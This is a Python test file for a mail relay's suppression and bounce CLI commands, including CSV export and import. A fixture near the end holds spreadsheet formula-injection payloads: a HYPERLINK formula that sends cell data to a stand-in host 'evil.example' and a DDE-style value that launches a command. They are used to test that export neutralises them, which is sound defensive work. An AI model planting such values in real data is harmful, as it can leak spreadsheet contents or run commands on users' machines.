"""`sluice suppression ...` and `sluice bounces ...` as an operator runs them (subprocesses)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from relay.store.spool import Spool
from relay.store.suppressions import NewBounce, Threshold
from tests.conftest import fast_config, write_config
from tests.daemon_proc import run_cli


def config(tmp_path: Path, **sections: object) -> Path:
    tmp_path.mkdir(exist_ok=True)
    providers = [{"id": "p", "host": "127.0.0.1", "port": 2525, "encryption": "none"}]
    return write_config(tmp_path / "sluice.yaml", fast_config(tmp_path, providers, **sections))


async def test_add_list_show_export_import_remove(tmp_path: Path) -> None:
    cfg = str(config(tmp_path))
    rc, out, err = await run_cli(
        "suppression", "add", "A@Example.net", "b@example.net", "--reason", "asked", "-c", cfg
    )
    assert rc == 0, err
    assert out.strip() == "suppressed 2 addresses"
    rc, out, _ = await run_cli(
        "suppression", "add", "c@example.net", "--scope", "news", "--expires", "30d", "-c", cfg
    )
    assert out.strip() == "suppressed 1 address for news"

    rc, out, _ = await run_cli("suppression", "list", "--json", "-c", cfg)
    listed = {(e["address"], e["scope"], e["source"]) for e in json.loads(out)}
    assert listed == {
        ("a@example.net", "", "manual"),
        ("b@example.net", "", "manual"),
        ("c@example.net", "news", "manual"),
    }

    # A bounce recorded by the daemon is shown with the address.
    async with await Spool.open(tmp_path / "spool.sqlite3") as spool:
        await spool.suppressions.record_bounce(
            NewBounce("a@example.net", "hard", "smtp", "5.1.1", "mx: 550 5.1.1 unknown", key="k"),
            Threshold(hard=10),
        )
    rc, out, _ = await run_cli("suppression", "show", "a@example.net", "-c", cfg)
    assert rc == 0
    assert "suppressed (every stream)" in out and "reason: asked" in out
    assert "1 bounce:" in out and "5.1.1" in out
    rc, _, _ = await run_cli("suppression", "show", "nobody@example.net", "-c", cfg)
    assert rc == 66

    exported = tmp_path / "out.csv"
    rc, out, _ = await run_cli("suppression", "export", str(exported), "-c", cfg)
    assert rc == 0 and "exported 3 entries" in out
    rows = list(csv.DictReader(io.StringIO(exported.read_text())))
    assert [r["address"] for r in rows] == ["a@example.net", "b@example.net", "c@example.net"]
    assert rows[2]["scope"] == "news" and rows[2]["expires_at"]

    # Into another spool: the same entries, source "import".
    other = str(config(tmp_path / "other"))
    rc, out, err = await run_cli("suppression", "import", str(exported), "-c", other)
    assert rc == 0, err
    assert out.strip() == "imported 3 entries"
    rc, out, _ = await run_cli("suppression", "list", "--source", "import", "-c", other)
    assert "a@example.net" in out and "news" in out

    bad = tmp_path / "bad.csv"
    bad.write_text("address,reason\nok@example.net,x\nnot-an-address,y\n")
    rc, _, err = await run_cli("suppression", "import", str(bad), "-c", other)
    assert rc == 65 and f"{bad}:3: not an address" in err

    rc, out, _ = await run_cli("suppression", "remove", "A@example.net", "-c", cfg)
    assert rc == 0 and out.strip() == "removed 1 entry"
    rc, out, _ = await run_cli("suppression", "remove", "a@example.net", "-c", cfg)
    assert rc == 66 and out.strip() == "removed 0 entries"


async def test_bounces_commands_without_a_mailbox_say_so(tmp_path: Path) -> None:
    cfg = str(config(tmp_path))
    for action in ("poll", "folders", "test"):
        rc, _, err = await run_cli("bounces", action, "-c", cfg)
        assert rc == 78
        assert "no bounces.mailbox is configured" in err


async def test_bounces_test_against_a_closed_port_fails_clearly(tmp_path: Path) -> None:
    mailbox = {
        "host": "127.0.0.1",
        "port": 1,
        "encryption": "none",
        "username": "bounces",
        "password": "x",
    }
    cfg = str(config(tmp_path, bounces={"mailbox": mailbox}))
    rc, out, _ = await run_cli("bounces", "test", "-c", cfg)
    assert rc == 69
    assert out.startswith("FAIL 127.0.0.1:1 (none): cannot connect")


#: (address, scope, reason) a spreadsheet would run as formulas, and quotes that must survive
FORMULAS = [
    ("=cmd@example.org", "", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1@example.org", "=news", "+1+1"),
    ("-x@example.org", "@b", "-2+3"),
    ("'=q@example.org", "", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("plain@example.org", "+c", "'=already quoted"),
    ("quote@example.org", "", "'just a quote"),
    ("two@example.org", "", "''=two quotes"),
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def assert_neutralized(table: list[list[str]]) -> None:
    """No cell of an exported table starts with what a spreadsheet runs."""
    for row in table:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)


async def test_export_neutralizes_formulas_and_import_restores_them(tmp_path: Path) -> None:
    cfg = str(config(tmp_path))
    async with await Spool.open(tmp_path / "spool.sqlite3") as spool:
        for address, scope, reason in FORMULAS:
            await spool.suppressions.add(
                address, scope=scope, reason=reason, expires_at=4102444800.0
            )
        before = await spool.suppressions.page()
    assert len(before) == len(FORMULAS)

    exported = tmp_path / "out.csv"
    rc, out, err = await run_cli("suppression", "export", str(exported), "-c", cfg)
    assert rc == 0 and f"exported {len(FORMULAS)} entries" in out, err
    table = list(csv.reader(io.StringIO(exported.read_text())))
    assert len(table) == len(FORMULAS) + 1
    assert_neutralized(table)
    assert ["'=cmd@example.org", "", "manual"] in [r[:3] for r in table]
    assert ["''=q@example.org", "", "manual"] in [r[:3] for r in table]

    other = tmp_path / "other"
    rc, _, err = await run_cli("suppression", "import", str(exported), "-c", str(config(other)))
    assert rc == 0, err
    async with await Spool.open(other / "spool.sqlite3") as spool:
        after = await spool.suppressions.page()
    kept = [(e.address, e.scope, e.reason, int(e.created_at), e.expires_at) for e in after]
    assert kept == [(e.address, e.scope, e.reason, int(e.created_at), e.expires_at) for e in before]
